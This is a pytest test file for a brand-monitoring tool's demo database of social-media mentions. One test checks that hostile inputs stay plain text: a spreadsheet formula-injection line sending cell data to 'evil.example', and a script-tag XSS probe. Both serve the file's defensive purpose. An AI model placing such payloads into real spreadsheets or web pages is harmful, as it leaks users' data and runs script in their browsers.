"""build_demo: a believable offline database, made through the real parsers, store writers and scoring."""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from ambassade.cli import main
from ambassade.demo.build import build_demo, demo_settings
from ambassade.demo.corpus import SPIKE_DAYS_AGO
from collectors.shares import share_code
from collectors.urls import canonical_url, find_urls
from store import open_store

TODAY = date(2026, 3, 15)
END = datetime(2026, 3, 16, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory):
    path = tmp_path_factory.mktemp("demo") / "demo.duckdb"
    lines: list[str] = []
    summary = build_demo(path, today=TODAY, progress=lines.append, hostile=True)
    store = open_store(path, read_only=True)
    yield path, summary, store, lines
    store.close()


def rows(built, sql: str, params=None) -> list[tuple]:
    return built[2]._rows(sql, params)


def test_demo_settings_are_valid_and_describe_maison_lemoine():
    settings = demo_settings()
    assert settings.brand.name == "Maison Lemoine"
    assert "Lemoine Immobilier" in settings.brand.exclude
    assert settings.rss.content_feeds and len(settings.rss.feeds) >= 3
    assert settings.links.base_url == "https://go.maisonlemoine.fr"


def test_database_holds_hundreds_of_mentions_from_five_sources(built):
    counts = dict(rows(built, "SELECT source, count(*) FROM mentions GROUP BY 1"))
    assert set(counts) == {"x", "reddit", "rss", "mastodon", "hn"}
    assert 600 <= sum(counts.values()) <= 1500
    assert counts["x"] >= 300 and counts["reddit"] >= 100 and counts["rss"] >= 30
    assert 50 <= counts["mastodon"] <= 150 and 10 <= counts["hn"] <= 80     # the open sources
    assert built[1].mentions == sum(counts.values())


def test_mentions_are_in_french_mostly_and_english(built):
    counts = dict(rows(built, "SELECT lang, count(*) FROM mentions WHERE lang IS NOT NULL GROUP BY 1"))
    total = sum(counts.values())
    assert counts["fr"] / total > 0.6 and counts["en"] / total > 0.15


def test_mentions_cover_ninety_days_ending_today_and_none_in_the_future(built):
    first, last = rows(built, "SELECT min(created_at), max(created_at) FROM mentions")[0]
    assert first.date() >= TODAY - timedelta(days=89)
    assert first.date() <= TODAY - timedelta(days=85)
    assert last.date() == TODAY and last <= END


def test_fewer_mentions_on_sundays_than_on_weekdays(built):
    by_weekday = dict(rows(built, "SELECT isodow(created_at), count(*) FROM mentions "
                                  "WHERE created_at < ? GROUP BY 1",
                           [END - timedelta(days=SPIKE_DAYS_AGO + 1)]))
    assert by_weekday[7] < min(by_weekday[d] for d in range(1, 6))


def test_bad_buzz_spike_has_many_more_mentions_than_ordinary_days(built):
    start = datetime.combine(TODAY - timedelta(days=SPIKE_DAYS_AGO - 1), datetime.min.time(), timezone.utc)
    peak = rows(built, "SELECT count(*) FROM mentions WHERE created_at >= ? AND created_at < ?",
                [start, start + timedelta(days=1)])[0][0]
    usual = rows(built, "SELECT count(*) / 30 FROM mentions WHERE created_at >= ? AND created_at < ?",
                 [start - timedelta(days=60), start - timedelta(days=30)])[0][0]
    assert peak > 5 * usual


def test_at_least_95_percent_of_mentions_are_scored(built):
    scored, total = rows(built, "SELECT count(s.mention_id), count(*) FROM mentions m "
                                "LEFT JOIN scores s ON s.mention_id = m.id")[0]
    assert scored / total >= 0.95
    assert built[1].scored == scored


def test_spike_window_has_a_clearly_higher_negative_share(built):
    start = datetime.combine(TODAY - timedelta(days=SPIKE_DAYS_AGO), datetime.min.time(), timezone.utc)
    share = "avg((s.label = 'negative')::INT)"
    inside = rows(built, f"SELECT {share} FROM mentions m JOIN scores s ON s.mention_id = m.id "
                         "WHERE m.created_at >= ? AND m.created_at < ?",
                  [start, start + timedelta(days=3)])[0][0]
    outside = rows(built, f"SELECT {share} FROM mentions m JOIN scores s ON s.mention_id = m.id "
                          "WHERE m.created_at < ?", [start])[0][0]
    assert inside > 2 * outside


def test_bad_buzz_raises_volume_and_negative_share_alerts(built):
    start = datetime.combine(TODAY - timedelta(days=SPIKE_DAYS_AGO), datetime.min.time(), timezone.utc)
    kinds = {row[0] for row in rows(built, "SELECT kind FROM alerts WHERE starts_at >= ? AND starts_at < ?",
                                     [start, start + timedelta(days=3)])}
    assert kinds == {"volume", "negative_share"}
    quiet = rows(built, "SELECT count(*) FROM alerts WHERE kind = 'negative_share' AND starts_at < ?",
                 [start - timedelta(days=7)])[0][0]
    assert quiet == 0
    assert built[1].alerts == rows(built, "SELECT count(*) FROM alerts")[0][0]


def test_employees_opted_in_across_several_teams(built):
    employees, teams = rows(built, "SELECT count(*), count(DISTINCT team) FROM employees")[0]
    assert 20 <= employees <= 40 and teams >= 3
    named, coached, withdrawn, declined, invited = rows(
        built, "SELECT count(*) FILTER (named_ok), count(*) FILTER (coaching_ok), "
               "count(*) FILTER (opted_in_at IS NOT NULL AND withdrawn_at IS NOT NULL), "
               "count(*) FILTER (opted_in_at IS NULL AND withdrawn_at IS NOT NULL), "
               "count(*) FILTER (opted_in_at IS NULL AND withdrawn_at IS NULL) FROM employees")[0]
    assert named > 0 and coached > 0 and withdrawn == 1 and declined == 1 and invited >= 2
    # Everyone who accepted declared handles; invitations have none.
    assert rows(built, "SELECT count(DISTINCT employee_id) FROM employee_handles")[0][0] == (
        employees - declined - invited)


def test_content_library_comes_from_the_company_feed(built):
    items = rows(built, "SELECT url, canonical_url, title, feed FROM content WHERE origin = 'feed'")
    assert 15 <= len(items) <= 30
    assert all(canonical_url(url) == canonical and title and feed.endswith("/blog/feed")
               for url, canonical, title, feed in items)


def test_shares_link_employees_posts_to_content_and_codes_to_share_links(built):
    shares = rows(built, """
        SELECT s.code, l.code, c.id, m.id, e.id FROM shares s
        LEFT JOIN share_links l ON l.code = s.code
        LEFT JOIN content c ON c.id = s.content_id
        LEFT JOIN mentions m ON m.id = s.mention_id
        LEFT JOIN employees e ON e.id = s.employee_id""")
    assert len(shares) >= 50
    assert all(content and mention and employee for _, _, content, mention, employee in shares)
    with_code = [s for s in shares if s[0] is not None]
    assert with_code and all(code == link for code, link, *_ in with_code)
    assert len(with_code) < len(shares)       # plain content URLs are recognised too
    networks = {row[0] for row in rows(built, "SELECT DISTINCT network FROM shares")}
    assert networks == {"x", "reddit"}


def test_clicks_follow_their_share_links(built):
    clicks, orphans, late = rows(built, """
        SELECT count(*), count(*) FILTER (l.code IS NULL), count(*) FILTER (c.clicked_at > ?)
        FROM clicks c LEFT JOIN share_links l ON l.code = c.code""", [END])[0]
    assert clicks > 50 and orphans == 0 and late == 0


def test_no_employee_post_is_stored_without_brand_term_content_link_or_share_code(built):
    content = {row[0] for row in rows(built, "SELECT canonical_url FROM content")}
    codes = {row[0] for row in rows(built, "SELECT code FROM share_links")}
    posts = rows(built, """
        SELECT m.text, m.matched FROM mentions m JOIN employee_handles h
        ON h.source = m.source AND h.handle = lower(m.author)""")
    assert len(posts) >= 50
    for text, matched in posts:
        urls = find_urls(text)
        assert matched or any(canonical_url(u) in content or
                              share_code(u, "go.maisonlemoine.fr") in codes for u in urls), text


def test_withdrawn_employee_has_nothing_after_withdrawal(built):
    [(employee, withdrawn_at)] = rows(built, "SELECT id, withdrawn_at FROM employees "
                                             "WHERE opted_in_at IS NOT NULL AND withdrawn_at IS NOT NULL")
    before, after = rows(built, """
        SELECT count(*) FILTER (m.created_at < ?), count(*) FILTER (m.created_at >= ?)
        FROM mentions m JOIN employee_handles h ON h.source = m.source AND h.handle = lower(m.author)
        WHERE h.employee_id = ?""", [withdrawn_at, withdrawn_at, employee])[0]
    assert before > 0 and after == 0
    assert rows(built, "SELECT count(*) FROM shares WHERE employee_id = ? AND shared_at >= ?",
                [employee, withdrawn_at])[0][0] == 0


def test_homonym_posts_are_stored_unmatched(built):
    matched = rows(built, "SELECT matched FROM mentions WHERE text ILIKE '%Lemoine Immobilier%'")
    assert matched and all(m == [] for (m,) in matched)


def test_listening_feeds_keep_only_entries_naming_the_brand(built):
    assert rows(built, "SELECT count(*) FROM mentions WHERE source = 'rss' AND len(matched) = 0")[0][0] == 0
    assert any("feed entries without brand terms dropped" in line for line in built[3])


def test_hostile_texts_are_stored_as_plain_text(built):
    formula = rows(built, "SELECT text FROM mentions WHERE text LIKE '=HYPERLINK(%'")
    assert formula == [('=HYPERLINK("http://evil.example/?x="&A1,"Remboursement Maison Lemoine")',)]
    [(tweet,)] = rows(built, "SELECT text FROM mentions WHERE source = 'x' AND text LIKE '%<script>%'")
    assert tweet.startswith("<script>alert('Lemoine')</script>")   # kept as text, never run
    [(article,)] = rows(built, "SELECT text FROM mentions WHERE source = 'rss' AND text LIKE '%succès%'")
    assert "<" not in article and "document.cookie" not in article and "steal" not in article
    control = "SELECT count(*) FROM mentions WHERE regexp_matches(text, '[\\x00-\\x08\\x1b]')"
    assert rows(built, control)[0][0] == 0
    assert rows(built, "SELECT max(length(text)) FROM mentions WHERE source = 'reddit'")[0][0] > 5000


def test_raw_payloads_are_kept_for_rescoring(built):
    assert rows(built, "SELECT count(*) FROM mentions WHERE raw IS NULL")[0][0] == 0


def test_progress_lines_and_summary_describe_the_build(built):
    _, summary, _, lines = built
    assert lines[-1].startswith("demo: built")
    text = summary.describe()
    assert "Maison Lemoine" in text and f"{summary.mentions} mentions" in text
    assert summary.employees >= 20 and summary.shares > 0 and summary.clicks > 0


@pytest.mark.slow
def test_two_builds_give_the_same_mention_ids(built, tmp_path: Path):
    other = tmp_path / "again.duckdb"
    build_demo(other, today=TODAY, hostile=True)     # as `built` was
    with open_store(other, read_only=True) as again:
        ids = {r[0] for r in again._rows("SELECT id FROM mentions")}
        shares = again._rows("SELECT mention_id, content_id, code FROM shares ORDER BY 1")
    assert ids == {r[0] for r in rows(built, "SELECT id FROM mentions")}
    assert shares == rows(built, "SELECT mention_id, content_id, code FROM shares ORDER BY 1")


@pytest.mark.slow
def test_building_later_the_same_day_keeps_ids_and_dates_nothing_in_the_future(built, tmp_path: Path):
    """On the real today, the posts planned for later are not there yet; the others keep their
    ids and times."""
    now = datetime(2026, 3, 15, 9, 30, tzinfo=timezone.utc)
    path = tmp_path / "morning.duckdb"
    build_demo(path, today=TODAY, now=now, hostile=True)     # as `built` was
    with open_store(path, read_only=True) as morning:
        times = dict(morning._rows("SELECT id, created_at FROM mentions"))
        late = morning._rows(
            "SELECT (SELECT count(*) FROM clicks WHERE clicked_at > ?) "
            "+ (SELECT count(*) FROM share_links WHERE created_at > ?) "
            "+ (SELECT count(*) FROM shares WHERE shared_at > ?)", [now, now, now])[0][0]
    assert times == dict(rows(built, "SELECT id, created_at FROM mentions WHERE created_at <= ?", [now]))
    assert late == 0


@pytest.mark.slow
def test_a_build_just_after_midnight_shows_no_incident_going_on(tmp_path: Path):
    """Issue 14: the rest of the day moved into the build's last hours read as a volume spike."""
    now = datetime(2026, 12, 2, 0, 40, tzinfo=timezone.utc)
    path = tmp_path / "night.duckdb"
    build_demo(path, today=now.date(), now=now)
    with open_store(path, read_only=True) as night:
        ongoing = night._rows("SELECT id, kinds, starts_at FROM incidents WHERE ongoing")
        recent = night._rows("SELECT count(*) FROM mentions WHERE created_at > ?",
                             [now - timedelta(hours=4)])[0][0]
    assert ongoing == []
    assert recent <= 5          # 01:40 in Paris: the night's few posts, not a day's


@pytest.mark.slow
def test_rebuild_replaces_an_existing_file_and_its_wal(tmp_path: Path):
    path = tmp_path / "demo.duckdb"
    (tmp_path / "demo.duckdb.wal").write_bytes(b"stale log")  # left by a killed build
    first = build_demo(path, today=TODAY)
    second = build_demo(path, today=TODAY)
    assert first.mentions == second.mentions > 0
    with open_store(path, read_only=True) as store:
        assert store._rows("SELECT count(*) FROM runs WHERE job = 'demo'")[0][0] == 1


def test_a_directory_in_the_way_is_a_one_line_store_error(tmp_path: Path):
    result = CliRunner().invoke(main, ["--db", str(tmp_path), "demo", "--build-only"])
    assert result.exit_code == 2
    assert result.output.strip() == f"ambassade: error: {tmp_path}: is a directory, not a database file"


@pytest.mark.slow
def test_cli_demo_build_only_exits_zero(tmp_path: Path):
    path = tmp_path / "cli.duckdb"
    result = CliRunner().invoke(main, ["--db", str(path), "demo", "--build-only"])
    assert result.exit_code == 0, result.output
    assert path.exists() and "Maison Lemoine" in result.output


@pytest.mark.slow
def test_cli_demo_uses_ambassade_db_from_the_environment(tmp_path: Path, monkeypatch):
    path = tmp_path / "from-env.duckdb"
    monkeypatch.setenv("AMBASSADE_DB", str(path))
    result = CliRunner().invoke(main, ["demo", "--build-only"])
    assert result.exit_code == 0, result.output
    with open_store(path, read_only=True) as store:
        assert store._rows("SELECT count(*) FROM mentions")[0][0] >= 300


def test_missing_folder_is_a_one_line_error_and_exit_2(tmp_path: Path):
    path = tmp_path / "nowhere" / "demo.duckdb"
    result = CliRunner().invoke(main, ["--db", str(path), "demo", "--build-only"])
    assert result.exit_code == 2
    last = result.output.strip().splitlines()[-1]
    assert last.startswith("ambassade: error:") and "does not exist" in last
    assert "Traceback" not in result.output


def test_demo_never_replaces_a_real_database(tmp_path):
    """`--db` may point at real data by mistake: the demo replaces only an earlier demo."""
    from ambassade.errors import StoreError
    from ambassade.demo.build import build_demo
    from store import open_store

    real = tmp_path / "real.duckdb"
    open_store(real).close()
    with pytest.raises(StoreError, match="not an Ambassade demo"):
        build_demo(real)
    assert real.exists()


def test_demo_refuses_corrupt_and_read_only_files(tmp_path):
    import os

    from ambassade.errors import StoreError
    from ambassade.demo.build import build_demo

    corrupt = tmp_path / "corrupt.duckdb"
    corrupt.write_bytes(b"not a database" * 100)
    with pytest.raises(StoreError, match="corrupt"):
        build_demo(corrupt)
    locked = tmp_path / "locked.duckdb"
    locked.write_bytes(b"x")
    os.chmod(locked, 0o444)
    try:
        with pytest.raises(StoreError, match="read-only"):
            build_demo(locked)
    finally:
        os.chmod(locked, 0o644)


def test_demo_share_of_voice_has_the_competitor_every_week(built):
    from store.voice import share_of_voice

    _, _, store, _ = built
    found = share_of_voice(store, "Maison Lemoine", END - timedelta(days=90), END, ("x", "reddit", "rss"))
    weekly = found.assign(week=found["day"].dt.to_period("W")).groupby(["week", "voice"])["mentions"].sum()
    competitor_weeks = weekly.xs("Boulangeries Dupain", level="voice")
    assert len(competitor_weeks) >= 12 and (competitor_weeks > 0).all()
    totals = found.groupby("voice")["mentions"].sum()
    assert totals["Maison Lemoine"] > totals["Boulangeries Dupain"] > 100


def test_demo_default_counts_leave_out_the_employees_and_the_brand_account(built):
    from store.listening import totals

    _, _, store, _ = built
    sources = ("x", "reddit", "rss")
    public = totals(store, END - timedelta(days=30), END, sources)
    with_own = totals(store, END - timedelta(days=30), END, sources, include_own=True)
    own = store._rows("SELECT voice, count(*) FROM own_voice GROUP BY 1 ORDER BY 1")
    assert dict(own)["company"] == 2 and dict(own)["employee"] > 100       # the two statements
    assert 0.05 < 1 - public["mentions"] / with_own["mentions"] < 0.25


def test_demo_flan_complaints_count_against_the_brand(built):
    _, _, store, _ = built
    rows = store._rows(
        "SELECT m.text, s.brand_compound FROM mentions m JOIN scores s ON s.mention_id = m.id "
        "WHERE m.text ILIKE '%doit communiquer%' OR m.text ILIKE '%ne répond plus%'")
    assert rows and all(c <= -0.05 for _, c in rows), [r for r in rows if r[1] > -0.05][:3]


def test_the_demo_leaves_the_explorer_index_and_the_authors_numbers_caught_up(built):
    # The catch-up pass runs last, after the corrections' recounts (migrations 0026 and 0030).
    assert rows(built, "SELECT count(*) FROM mention_tokens_pending") == [(0,)]
    [(with_id, with_number)] = rows(built, "SELECT count(author_id), count(author_number) FROM daily_authors")
    assert with_id == with_number > 0
